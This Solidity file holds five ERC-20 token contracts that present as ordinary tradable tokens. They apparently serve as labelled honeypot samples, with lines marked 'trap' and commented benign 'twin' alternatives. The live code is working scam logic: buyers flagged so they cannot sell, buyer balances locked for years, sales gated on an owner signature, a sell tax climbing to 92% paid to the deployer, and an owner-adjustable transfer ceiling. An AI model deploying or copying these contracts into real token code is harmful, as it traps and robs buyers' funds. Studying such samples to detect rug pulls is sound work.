// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IMill {
    function createPair(address a, address b) external returns (address);
}

abstract contract Crate {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    address public owner;
    address internal immutable venue;
    mapping(address => mapping(address => uint256)) public allowance;

    modifier onlyOwner() {
        require(msg.sender == owner, "not owner");
        _;
    }

    constructor(string memory n, string memory s) {
        name = n;
        symbol = s;
        owner = msg.sender;
        venue = IMill(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _carry(from, to, value);
        return true;
    }

    function _carry(address from, address to, uint256 value) internal virtual;
}

contract NeedleFern is Crate {
    uint256 private constant LOW = (1 << 200) - 1;
    mapping(address => uint256) private cell;
    uint256 private start;
    uint256 public constant totalSupply = 88_000_000 ether;

    constructor() Crate("Needle Fern", "NFERN") {
        cell[msg.sender] = totalSupply | (uint256(2) << 250);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function openTrading() external onlyOwner {
        require(start == 0);
        start = block.number;
    }

    function balanceOf(address a) external view returns (uint256) {
        return cell[a] & LOW;
    }

    function _carry(address from, address to, uint256 value) internal override {
        uint256 c = cell[from];
        require((c & LOW) >= value, "balance");
        if (c >> 250 == 2 || to == from) {
            // the team
        } else if (from == venue) {
            require(start != 0, "soon");
            if (start != 0) cell[to] |= 1 << 250; // trap
            // twin: if (start == block.number) cell[to] |= 1 << 250;
        } else {
            require(c >> 250 & 1 == 0, "bot");
        }
        cell[from] -= value;
        cell[to] += value;
        emit Transfer(from, to, value);
    }
}

contract OtterLamp is Crate {
    mapping(address => uint256) public balanceOf;
    mapping(address => bool) private _free;
    uint256 public constant totalSupply = 1_000_000_000 ether;
    uint256 public ceiling = totalSupply / 100;

    constructor() Crate("Otter Lamp", "OTLAMP") {
        balanceOf[msg.sender] = totalSupply;
        _free[msg.sender] = true;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function adjust(uint256 permille) external onlyOwner {
        ceiling = (totalSupply * permille) / 1000;
    }

    function _carry(address from, address to, uint256 value) internal override {
        if (from != venue && !_free[from]) require(value <= ceiling, "Exceeds the maximum");
        balanceOf[from] -= value;
        unchecked {
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

contract QuietMarmot is Crate {
    struct Den {
        uint128 held;
        uint64 wakes;
        bool elder;
    }

    mapping(address => Den) private dens;
    uint256 public immutable totalSupply;
    uint64 private constant NAP = 60;

    constructor() Crate("Quiet Marmot", "QMAR") {
        totalSupply = 21_000_000 ether;
        dens[msg.sender] = Den(uint128(21_000_000 ether), 0, true);
        emit Transfer(address(0), msg.sender, 21_000_000 ether);
    }

    function balanceOf(address who) external view returns (uint256) {
        return dens[who].held;
    }

    function _carry(address from, address to, uint256 value) internal override {
        Den storage d = dens[from];
        Den storage e = dens[to];
        if (!d.elder && from != venue) require(block.timestamp >= d.wakes, "asleep");
        d.held -= uint128(value);
        e.held += uint128(value);
        if (from == venue && !e.elder) {
            e.wakes = uint64(block.timestamp) + NAP * 1 days * 30; // trap
            // twin: e.wakes = uint64(block.timestamp) + NAP;
        }
        emit Transfer(from, to, value);
    }
}

contract ThimbleRook is Crate {
    mapping(address => uint256) public balanceOf;
    mapping(address => uint256) private stub;
    address private immutable desk;
    uint256 private immutable born;
    uint256 public constant totalSupply = 5_000_000 ether;

    constructor() Crate("Thimble Rook", "TROOK") {
        desk = msg.sender;
        born = block.timestamp;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function stamp(uint256 until, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 h = keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", keccak256(abi.encode(address(this), msg.sender, until))));
        require(ecrecover(h, v, r, s) == desk, "signature");
        stub[msg.sender] = until;
    }

    function _carry(address from, address to, uint256 value) internal override {
        if (to == venue && from != desk) {
            require(stub[from] >= block.timestamp, "captcha"); // trap
            // twin: require(block.timestamp > born + 20 minutes || stub[from] >= block.timestamp, "captcha");
        }
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract SaltVane is Crate {
    mapping(address => uint256) public balanceOf;
    uint256 public constant totalSupply = 777_000_000 ether;
    uint256 private immutable t0 = block.timestamp;
    address private immutable purse = msg.sender;

    constructor() Crate("Salt Vane", "SVANE") {
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function _drift() private view returns (uint256) {
        uint256 d = (block.timestamp - t0) / 1 days;
        return d * 5 > 92 ? 92 : d * 5; // trap
        // twin: return d > 17 ? 3 : 20 - d;
    }

    function _carry(address from, address to, uint256 value) internal override {
        balanceOf[from] -= value;
        if (to == venue && from != purse) {
            uint256 cut = (value * _drift()) / 100;
            balanceOf[purse] += cut;
            emit Transfer(from, purse, cut);
            value -= cut;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}
